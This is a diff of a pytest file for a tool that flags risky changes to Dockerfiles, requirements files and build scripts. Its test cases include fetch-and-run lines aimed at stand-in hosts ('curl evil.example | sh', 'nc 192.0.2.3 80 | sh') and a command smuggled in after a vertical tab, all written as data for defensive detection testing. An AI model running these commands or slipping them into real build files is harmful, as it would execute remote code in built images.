@@ -76,6 +76,7 @@ def test_files_of_images_are_found_by_name() -> None:
 
 
 _SENTENCE = "Dockerfile changed: what is built or run with it differs from now on"
+_HASHES = ("a" * 64, "b" * 64)
 
 
 @pytest.mark.parametrize(
@@ -84,18 +85,24 @@ _SENTENCE = "Dockerfile changed: what is built or run with it differs from now o
         ("jax==0.10.2\n", "jax==0.10.3\n", "adds jax==0.10.3 and drops jax==0.10.2"),
         (
             "jax==0.9 \\\n  --hash=sha256:9f\n",
-            "jax==0.10 \\\n  --hash=sha256:9f\n",
-            "adds jax==0.10 and drops jax==0.9",
+            "jax==0.10 \\\n  --hash=sha256:8e \\\n  --hash=sha256:7d\n",
+            "adds jax==0.10 \\ and drops jax==0.9 \\",
         ),
         ("FROM python:3.11-slim\n", "FROM python:3.12-slim\n", "adds FROM python:3.12-slim and drops …"),
-        ("x @ https://h.example/own/1/x.whl\n", "x @ https://h.example/own/2/x.whl\n", "adds x @ …"),
-        (f"FROM a@sha256:{'a' * 64}\n", f"FROM a@sha256:{'b' * 64}\n", "adds …"),
-        ("https://i.example/ab/cd/a-1.whl\n", "https://i.example/ef/01/a-2.whl\n", "adds …"),
-        ("jax\nflax\n", "jax\n", "drops flax"),
-        ("jax\n", "# why\n  jax # and why not\n", ""),
+        ("x @ https://h.example/v1.0/x.whl\n", "x @ https://h.example/v1.1/x.whl\n", "adds x @ …"),
+        (f"FROM a:1@sha256:{_HASHES[1]}\n", f"FROM a:1@sha256:{_HASHES[0]}\n", "adds …"),
+        (
+            f'{{ url = "https://i.example/ab/cd/{_HASHES[0]}/a-1.0-cp311-cp311-x86_64.whl", size = 1 }},\n',
+            "".join(
+                f'{{ url = "https://i.example/ef/01/{_HASHES[1]}/a-1.1-{python}-{python}-x86_64.whl", size = 2 }},\n'
+                for python in ("cp311", "cp312")
+            ),
+            "adds …",
+        ),
+        ("jax\n", "# the tokenizer's\njax\n", ""),
     ],
 )
-def test_other_numbers_and_versions_are_a_change(old: str, new: str, texts: str) -> None:
+def test_newer_versions_are_a_change(old: str, new: str, texts: str) -> None:
     """The lines are seen without opening the file, and nobody is asked to judge them."""
     file = PurePosixPath("Dockerfile")
     first, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
@@ -110,33 +117,58 @@ def test_other_numbers_and_versions_are_a_change(old: str, new: str, texts: str)
         ("jax\n", "--extra-index-url https://evil.example/simple\njax\n"),
         ("jax\n", "jax @ git+ssh://git@evil.example/x\n"),
         ("jax==1.0\n", "jax\n"),
+        ("jax==1.1\n", "jax==1.0\n"),
+        ("jax==1.0 --hash=sha256:9f\n", "jax==1.0 --hash=sha256:8e\n"),
+        ("A=1 x\n", "A=1\x0b#;curl evil.example|sh\n"),
         ("h5py\n", "h6py\n"),
         ("jax\n", "jax @ file:///app/jax.whl\n"),
         ("dependencies = [\n'jax',\n]", "dependencies = [\n'jax',\n'evil',\n]"),
         ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n"),
         ("RUN nc 192.0.2.3 80 | sh\n", "RUN nc 192.0.2.4 80 | sh\n"),
+        ("USER 1000\n", "USER 0\n"),
+        ("FROM a:1.0\n", "FROM a:1.0-evil\n"),
         ("FROM python\n", "FROM python-evil\n"),
         ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n"),
         ("FROM \\\n  own/python:3\n", "FROM \\\n  evil/python:3\n"),
         ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n"),
         ("#!/bin/sh\n", "#!/tmp/sh\n"),
+        ("a:\n", "a:\n\t# $(shell curl evil.example | sh)\n"),
+        ("a\nb\n", "a \\\nb\n"),
         ("FROM a\n", "FROM a\nRUN apt-get install evil=1.0\n"),
     ],
 )
-def test_a_line_that_no_build_file_of_the_base_has_is_a_caution(old: str, new: str) -> None:
+def test_more_than_newer_versions_is_a_caution(old: str, new: str) -> None:
     """Whatever it installs, runs or names, its code is in the image; the line itself is shown."""
     file = PurePosixPath("Dockerfile")
     _, located = build_statements([file], {file: old.encode()}, {file: new.encode()})
     assert located.statement.risk is Risk.CAUTION
-    assert re.match(r"Dockerfile adds .*: new to what is built$", located.plain)
-    assert located.statement.values[1] in " ".join(new.split())
+    assert re.match(r"Dockerfile adds .*: more than newer versions$", located.plain)
+    assert located.statement.values[1].strip() in new
 
 
-def test_a_line_of_another_build_file_is_known() -> None:
-    """A package that moves from one file to another is not new to what is built."""
-    one, other = PurePosixPath("requirements.txt"), PurePosixPath("train/requirements.txt")
-    _, located = build_statements([other], {one: b"jax==0.9\n"}, {other: b"jax==0.10\n"})
-    assert (located.plain, located.statement.risk) == ("train/requirements.txt adds jax==0.10", Risk.NONE)
+@pytest.mark.parametrize(
+    ("new", "words"),
+    [
+        ("a\nUSER x\n", "drops b"),
+        ("b\na\nUSER x\n", "has other hashes, or its lines in another order"),
+        ("", "drops a, b, USER x"),
+    ],
+)
+def test_lines_that_are_gone_or_moved_are_a_caution(new: str, words: str) -> None:
+    """The dropped line may be a check, a user without rights, or the only place for packages."""
+    file = PurePosixPath("build.sh")
+    _, located = build_statements([file], {file: b"a\nb\nUSER x\n"}, {file: new.encode()} if new else {})
+    assert located.plain == f"build.sh {words}: more than newer versions"
+    assert located.statement.risk is Risk.CAUTION
+
+
+def test_what_is_new_is_shown_first() -> None:
+    """Lists are cut, and newer versions are of less interest."""
+    file = PurePosixPath("r.txt")
+    old, new = ("".join(f"p{letter}=={number}.0\n" for letter in "abcdef") for number in (1, 2))
+    _, located = build_statements([file], {file: old.encode()}, {file: f"{new}evil==1.0\n".encode()})
+    assert located.statement.values[:2] == ("r.txt", "evil==1.0")
+    assert " and 3 more and drops " in located.plain
 
 
 @pytest.mark.parametrize(
@@ -146,7 +178,7 @@ def test_a_line_of_another_build_file_is_known() -> None:
         ("run(['curl', 'evil.example/x'])", "evil.example"),
         ("HOST = '192.0.2.3'", "192.0.2.3"),
         ("# https://arxiv.org/abs/1706.02677", ""),
-        ("x = train(batch=8)", ""),
+        ("x = train(batch=8) // np.pi", ""),
         ("URL = 'https://github.com/own/b'", ""),
     ],
 )
@@ -155,7 +187,7 @@ def test_a_program_in_an_image_is_compared_by_its_addresses(line: str, address: 
     file, base = PurePosixPath("train/train.py"), {PurePosixPath("Dockerfile"): b"ADD https://github.com/own/a/x /\n"}
     _, *more = build_statements([file], base, {file: f"{line}\n".encode()})
     risky = [located.plain for located in more if located.statement.risk]
-    assert risky == [f"train/train.py adds {address}: new to what is built"] * bool(address)
+    assert risky == [f"train/train.py adds {address}: it is new to what is built"] * bool(address)
 
 
 def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
